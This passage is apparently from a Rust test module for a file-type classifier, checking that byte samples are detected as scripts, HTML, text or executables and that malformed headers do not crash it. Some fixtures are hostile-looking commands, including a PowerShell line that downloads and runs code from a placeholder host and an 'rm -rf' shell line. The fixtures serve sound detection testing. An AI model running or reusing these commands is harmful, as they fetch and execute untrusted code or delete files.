        assert_eq!(det_split(&iso, 3), FileType::Iso);
        assert_eq!(FileType::Iso.category(), Category::Archive);
    }

    #[test]
    fn scripts_html_text() {
        assert_eq!(det(b"#!/bin/sh\nrm -rf /tmp/x\n"), FileType::Script);
        assert_eq!(
            det(b"$c = New-Object Net.WebClient; IEX($c.DownloadString('http://x/a'))"),
            FileType::Script
        );
        assert_eq!(
            det(b"Set o = CreateObject(\"WScript.Shell\")\r\nDim x\r\n"),
            FileType::Script
        );
        assert_eq!(
            det(b"var s = new ActiveXObject('WScript.Shell'); eval(x);"),
            FileType::Script
        );
        assert_eq!(det(b"@echo off\r\nset a=1\r\n"), FileType::Script);
        assert_eq!(
            det(b"<html><head><hta:application id=x></head></html>"),
            FileType::Script
        );
        assert_eq!(
            det(b"<!DOCTYPE html>\n<html><body>hi</body></html>"),
            FileType::Html
        );
        assert_eq!(det("plain text, caf\u{e9}\n".as_bytes()), FileType::Text);
        assert_eq!(det(b"{\"json\": [1, 2, 3]}"), FileType::Text);
        assert_eq!(
            det(b"Object.extend(Event, {\n  onReady: function(f) {\n  }\n});\n"),
            FileType::Script
        );
        assert_eq!(
            det(b"body { color: red; }\n.a > .b { margin: 0 }\n"),
            FileType::Text
        );
        assert_eq!(det(b"bin\0ary\xff"), FileType::Other);
        assert_eq!(det(b""), FileType::Other);
        assert_eq!(det(b"\xc3"), FileType::Text);
        assert_eq!(FileType::Script.category(), Category::Script);
        assert_eq!(FileType::Html.category(), Category::Other);
    }

    #[test]
    fn hostile_headers_do_not_panic() {
        let mut m = b"MZ".to_vec();
        m.resize(0x40, 0);
        m[0x3c..0x40].copy_from_slice(&u32::MAX.to_le_bytes());
        assert_eq!(det(&m), FileType::Exe);
        let mut o = OLE_MAGIC.to_vec();
        o.resize(0x40, 0xff);
        assert_eq!(det(&o), FileType::Doc);
        let mut z = b"PK\x03\x04".to_vec();
        z.resize(30, 0xff);
        assert_eq!(det_split(&z, 1), FileType::Zip);
    }
}
